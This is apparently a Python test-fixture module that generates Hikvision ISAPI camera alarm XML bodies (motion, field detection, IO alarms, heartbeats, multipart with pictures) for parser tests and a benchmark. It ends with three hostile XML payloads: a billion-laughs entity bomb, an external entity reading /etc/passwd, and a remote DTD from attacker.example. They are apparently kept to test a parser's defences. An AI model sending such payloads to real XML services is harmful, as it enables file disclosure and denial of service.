"""ISAPI ``EventNotificationAlert`` bodies as Hikvision cameras post them to an alarm host.

Written after what the cameras' firmware (V5.x, ISAPI 2.0) sends over "HTTP listening":
the ``http://www.hikvision.com/ver20/XMLSchema`` namespace, a line an element, the address,
MAC, channel and time of the camera, and for the smart events (fielddetection, linedetection)
a ``DetectionRegionList`` with the region's coordinates and the detected target. Shared by the
tests and ``bench/bench_isapi.py``.
"""

from __future__ import annotations

from typing import Final

MAC: Final = "ac:b9:2f:49:44:75"
IP: Final = "10.20.3.15"
WHEN: Final = "2026-12-03T10:15:32+08:00"
BOUNDARY: Final = "boundary"
#: a JPEG's first and last bytes around a little filler (what the media store sniffs)
JPEG: Final = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(range(256)) * 8
    + b"\xff\xd9"
)


def alert(
    event_type: str = "fielddetection",
    *,
    state: str = "active",
    mac: str | None = MAC,
    ip: str = IP,
    channel: int | None = 1,
    when: str = WHEN,
    count: int = 1,
    description: str | None = None,
    extra: str = "",
) -> bytes:
    """One alert; ``extra`` goes after ``channelName`` (regions, IO port, ...)."""
    mac_line = f"<macAddress>{mac}</macAddress>\n" if mac else ""
    channel_line = f"<channelID>{channel}</channelID>\n" if channel is not None else ""
    text = f"""<?xml version="1.0" encoding="UTF-8"?>
<EventNotificationAlert version="2.0" xmlns="http://www.hikvision.com/ver20/XMLSchema">
<ipAddress>{ip}</ipAddress>
<ipv6Address>::ffff:{ip}</ipv6Address>
<portNo>80</portNo>
<protocol>HTTP</protocol>
{mac_line}{channel_line}<dateTime>{when}</dateTime>
<activePostCount>{count}</activePostCount>
<eventType>{event_type}</eventType>
<eventState>{state}</eventState>
<eventDescription>{description or event_type + " alarm"}</eventDescription>
<channelName>西街道口</channelName>
{extra}</EventNotificationAlert>
"""
    return text.encode()


def regions(target: str, element: str = "detectionTarget") -> str:
    """A ``DetectionRegionList`` with one region and the target detected in it."""
    return f"""<DetectionRegionList>
<DetectionRegionEntry>
<regionID>1</regionID>
<sensitivityLevel>50</sensitivityLevel>
<RegionCoordinatesList>
<RegionCoordinates><positionX>242</positionX><positionY>531</positionY></RegionCoordinates>
<RegionCoordinates><positionX>728</positionX><positionY>531</positionY></RegionCoordinates>
<RegionCoordinates><positionX>728</positionX><positionY>102</positionY></RegionCoordinates>
<RegionCoordinates><positionX>242</positionX><positionY>102</positionY></RegionCoordinates>
</RegionCoordinatesList>
<{element}>{target}</{element}>
<TargetRect><X>0.412</X><Y>0.305</Y><width>0.168</width><height>0.221</height></TargetRect>
</DetectionRegionEntry>
</DetectionRegionList>
<isDataRetransmission>false</isDataRetransmission>
"""


def field_detection(target: str, element: str = "detectionTarget", **more: object) -> bytes:
    return alert("fielddetection", extra=regions(target, element), **more)  # type: ignore[arg-type]


def motion(**more: object) -> bytes:
    """VMD: motion detection, as every camera has it."""
    return alert("VMD", description="Motion alarm", **more)  # type: ignore[arg-type]


def io_alarm(port: int = 1, **more: object) -> bytes:
    """An alarm input (a sensor wired to the camera's IO port): no channel, the port's id."""
    return alert(
        "IO",
        channel=None,
        description="IO alarm",
        extra=f"<inputIOPortID>{port}</inputIOPortID>\n",
        **more,  # type: ignore[arg-type]
    )


def heartbeat(**more: object) -> bytes:
    """What a camera sends every few seconds when nothing happens: videoloss, inactive."""
    return alert("videoloss", state="inactive", count=0, **more)  # type: ignore[arg-type]


def multipart(xml: bytes, *pictures: bytes, name: str = "fielddetection") -> bytes:
    """The alert and its pictures as ``multipart/form-data`` (``BOUNDARY``), as cameras send
    them with "upload picture" on."""
    parts = [
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}"\r\n'
        f'Content-Type: application/xml; charset="UTF-8"\r\n'
        f"Content-Length: {len(xml)}\r\n\r\n".encode()
        + xml
        + b"\r\n"
    ]
    for n, picture in enumerate(pictures, 1):
        parts.append(
            f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="{name}Picture";'
            f' filename="{name}Picture.jpg"\r\nContent-Type: image/jpeg\r\n'
            f"Content-Length: {len(picture)}\r\nContent-ID: image_{n}\r\n\r\n".encode()
            + picture
            + b"\r\n"
        )
    return b"".join(parts) + f"--{BOUNDARY}--\r\n".encode()


BILLION_LAUGHS: Final = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<EventNotificationAlert xmlns="http://www.hikvision.com/ver20/XMLSchema">
<eventType>&lol3;</eventType></EventNotificationAlert>"""
EXTERNAL_ENTITY: Final = b"""<?xml version="1.0"?>
<!DOCTYPE EventNotificationAlert [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<EventNotificationAlert xmlns="http://www.hikvision.com/ver20/XMLSchema">
<eventType>&xxe;</eventType></EventNotificationAlert>"""
REMOTE_DTD: Final = b"""<?xml version="1.0"?>
<!DOCTYPE EventNotificationAlert SYSTEM "http://attacker.example/isapi.dtd">
<EventNotificationAlert xmlns="http://www.hikvision.com/ver20/XMLSchema"/>"""
